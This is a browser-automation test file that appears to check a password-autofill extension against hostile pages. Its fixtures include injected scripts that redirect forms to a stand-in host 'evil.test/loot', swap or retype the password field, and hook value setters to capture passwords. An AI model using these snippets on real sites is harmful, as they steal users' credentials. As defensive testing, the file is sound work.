import { describe, expect, it } from 'vitest';
import type { LabPage } from '../e2e/harness/lab.ts';
import { BROWSERS } from '../e2e/stage.ts';
import { fillForm, FORM, how, lookAndFill, openForm, PASSWORD } from './harness/forms.ts';
import { guardScene } from './harness/guarded-scene.ts';
import { filledField } from './harness/leak-sweep.ts';
import type { Scene } from './harness/scene.ts';

describe.each(BROWSERS)('fields in %s', (browser) => {
  let scene: Scene;
  guardScene(browser, (opened) => (scene = opened), filledField(/^https:\/\/allowed\.test\//));

  const secret = (): string => scene.secrets().at(-1) ?? 'none';
  const change = (page: LabPage, code: string): Promise<string> =>
    page.evaluate<string>(`() => {
      const field = document.querySelector(${JSON.stringify(PASSWORD)});
      (${code})(field);
      return 'changed';
    }`);

  it('control: the field is filled while it is there to be seen', async () => {
    const { page, tabId } = await openForm(scene);
    expect(await lookAndFill(scene, tabId)).toBe('ok');
    expect(await page.value(PASSWORD)).toBe(secret());
  });

  it('T36: of many password fields only the one of the mail server changes', async () => {
    const { page, tabId } = await openForm(scene);
    await change(
      page,
      `(field) => {
      const more = ['old_password', 'pin', 'card', 'new', 'admin', 'backup'];
      for (const name of more) field.form.insertAdjacentHTML('beforeend', '<p><label>' + name + ' <input type="password" name="' + name + '"></label>');
      for (const name of ['email', 'phone', 'address']) field.form.insertAdjacentHTML('beforeend', '<input type="hidden" name="' + name + '"><input style="position:absolute;left:-9999px" name="x' + name + '">');
    }`,
    );
    await lookAndFill(scene, tabId);
    const others = await page.evaluate<string[]>(
      `() => [...document.querySelectorAll('input:not([name^=smtp_])')].filter((one) => one.value !== '').map((one) => one.name)`,
    );
    expect(others).toEqual([]);
    expect(await page.value(PASSWORD)).toBe(secret());
  });

  it.each([
    ['replaces the field', `(field) => field.replaceWith(field.cloneNode())`],
    [
      'moves the field to another form',
      `(field) => { const form = document.createElement('form'); form.action = 'https://evil.test/loot'; document.body.append(form); form.append(field); }`,
    ],
    ['turns the field into a text field', `(field) => { field.type = 'text'; }`],
    ['sends the form elsewhere', `(field) => { field.form.action = 'https://evil.test/loot'; }`],
    [
      'adds a button that sends the form elsewhere',
      `(field) => field.form.insertAdjacentHTML('beforeend', '<button formaction="https://evil.test/loot">Save</button>')`,
    ],
    ['renames the field', `(field) => { field.name = 'other'; }`],
    ['hides the field', `(field) => { field.style.display = 'none'; }`],
    ['takes the form away', `(field) => field.form.remove()`],
  ])('T37: a page that %s between the choice and the fill gets nothing', async (_what, swap) => {
    const form = await openForm(scene);
    await change(form.page, swap);
    const outcome = how(await fillForm(scene, form));
    const held = await form.page.evaluate<string[]>(
      `() => [...document.querySelectorAll('input')].map((one) => one.value)`,
    );
    expect(held).not.toContain(secret());
    if (!_what.startsWith('hides')) expect(['form-changed', 'form-gone']).toContain(outcome);
  });

  it('T37: a page that swaps the field while the names before it are written gets no value', async () => {
    const form = await openForm(scene);
    await change(
      form.page,
      `(field) => {
      document.querySelector('[name=smtp_user]').addEventListener('input', () => { field.type = 'text'; field.form.action = 'https://evil.test/loot'; });
    }`,
    );
    await fillForm(scene, form);
    expect(await form.page.value(PASSWORD)).toBe('');
  });

  it('T38: setters that the page put on the field and on its prototype never see the value', async () => {
    const form = await openForm(scene);
    await change(
      form.page,
      `(field) => {
      window.__loot = [];
      const real = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
      for (const place of [field, HTMLInputElement.prototype]) Object.defineProperty(place, 'value', {
        configurable: true, get() { return real.get.call(this); }, set(value) { window.__loot.push(String(value)); real.set.call(this, value); } });
    }`,
    );
    expect(how(await fillForm(scene, form))).toBe('ok');
    expect(await form.page.evaluate('window.__loot')).toEqual([]);
    expect(await form.page.value(PASSWORD)).toBe(secret());
  });

  it('T39: nothing that the page can record before the pick names an account or a password', async () => {
    const form = await openForm(scene);
    const seen = await form.page.evaluate<string>(`() => new Promise((resolve) => {
      const seen = [];
      new MutationObserver((records) => seen.push(...records.flatMap(({ addedNodes }) => [...addedNodes].map((one) => one.outerHTML ?? one.data))))
        .observe(document, { subtree: true, childList: true, attributes: true });
      document.querySelector(${JSON.stringify(PASSWORD)}).focus();
      setTimeout(() => resolve(JSON.stringify(seen) + document.documentElement.outerHTML), 800);
    })`);
    expect(seen).not.toMatch(/anna|Gallery device|contoso/i);
  });

  it('T41: a field that cuts, masks or clears is reported as not filled; one that is too short stays empty', async () => {
    for (const [what, arm, left] of [
      ['maxlength', `(field) => { field.maxLength = 4; }`, ''],
      ['clearing', `(field) => field.addEventListener('input', () => { field.value = ''; })`, ''],
      [
        'masking',
        `(field) => field.addEventListener('input', () => { field.value = field.value.slice(0, 4); })`,
        secret().slice(0, 4),
      ],
    ] as const) {
      const form = await openForm(scene, `${FORM}?${what}`);
      await change(form.page, arm);
      expect(how(await fillForm(scene, form))).toBe('ok');
      const { result } = await scene.ask('view.read', {});
      const outcome = result?.fill?.fields.find(({ role }) => role.endsWith('password'))?.result;
      expect(`${what} ${outcome}`).toBe(`${what} kept`);
      expect(await form.page.value(PASSWORD)).toBe(left);
    }
  });

  it('T42: the extension never submits a form', async () => {
    const form = await openForm(scene);
    await change(
      form.page,
      `(field) => {
      window.submits = 0;
      field.form.addEventListener('submit', (event) => { window.submits += 1; event.preventDefault(); });
      field.form.insertAdjacentHTML('beforeend', '<button>Save</button>');
    }`,
    );
    await lookAndFill(scene, form.tabId);
    expect(await form.page.value(PASSWORD)).toBe(secret());
    expect(await form.page.evaluate('window.submits')).toBe(0);
    expect(scene.emulator.state.requests.filter(({ path }) => path === '/save')).toEqual([]);
  });

  it('T43: fields in closed shadow roots and editable texts are left alone', async () => {
    const form = await openForm(scene);
    await change(
      form.page,
      `(field) => {
      const host = document.createElement('x-field');
      window.shut = host.attachShadow({ mode: 'closed' });
      window.shut.innerHTML = '<label>SMTP password <input type="password" name="hidden_password"></label>';
      field.form.append(host);
      field.form.insertAdjacentHTML('beforeend', '<p contenteditable id="editable">Password</p>');
    }`,
    );
    await lookAndFill(scene, form.tabId);
    expect(await form.page.evaluate(`window.shut.querySelector('input').value`)).toBe('');
    expect(await form.page.evaluate(`document.querySelector('#editable').textContent`)).toBe('Password');
  });

  it('T112: a page sees the same events in the same order at every fill', async () => {
    const record = async (query: string): Promise<string[]> => {
      const form = await openForm(scene, `${FORM}?${query}`);
      await change(
        form.page,
        `(field) => {
        // Of elements only: that the window itself loses the focus is the popup's doing, at its own time.
        window.events = [];
        for (const type of ['focus', 'blur', 'input', 'change', 'keydown', 'click'])
          addEventListener(type, (event) => { if (event.target instanceof Element) window.events.push(type + ' ' + (event.target.name ?? '')); }, true);
      }`,
      );
      expect(how(await fillForm(scene, form))).toBe('ok');
      return form.page.evaluate<string[]>('window.events');
    };
    const first = await record('one');
    expect(first).toContain('input smtp_password');
    expect(await record('two')).toEqual(first);
  });
});
